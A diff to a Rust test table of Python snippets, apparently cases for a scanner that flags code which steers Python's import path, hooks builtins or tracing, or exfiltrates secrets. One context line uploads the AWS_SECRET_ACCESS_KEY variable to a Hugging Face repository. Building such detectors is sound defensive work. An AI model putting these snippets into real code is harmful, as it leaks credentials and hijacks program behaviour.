@@ -164,6 +164,9 @@ pub(super) const ATTACKS: &[(&str, &str, &str)] = &[
         "import os\nfrom huggingface_hub import upload_file\ndef f():\n    upload_file(path_or_fileobj=os.environ['AWS_SECRET_ACCESS_KEY'].encode(), path_in_repo='x', repo_id='a/b')\n",
     ),
     // What steers Python.
+    ("steer-site", "code-search-path", "import site\nsite.addsitedir('/tmp')\n"),
+    ("steer-builtins-default", "code-hooks-python", "def f(*a): pass\n__builtins__.setdefault('open', f)\n"),
+    ("steer-trace", "code-hooks-python", "import threading\ndef f(*a): pass\nthreading.setprofile(f)\n"),
     (
         "steer-load-defaults",
         "code-hooks-python",
@@ -246,7 +249,6 @@ pub(super) const REVIEWS: &[(&str, &str, &str)] = &[
     ("search-path-unbound", "code-search-path", "import sys\nlist.insert(sys.path, 0, '/tmp')\n"),
     ("search-path-item", "code-search-path", "import sys\nsys.path[0] = '/tmp'\n"),
     ("search-path-operator", "code-search-path", "import sys, operator\noperator.iadd(sys.path, ['/tmp'])\n"),
-    ("search-path-site", "code-search-path", "import site\nsite.addsitedir('/tmp')\n"),
     ("search-path-of-package", "code-search-path", "import transformers\ntransformers.__path__.insert(0, '/tmp')\n"),
     ("function-defaults", "code-patches-library", "import math\nmath.isclose.__kwdefaults__ = {}\n"),
     (
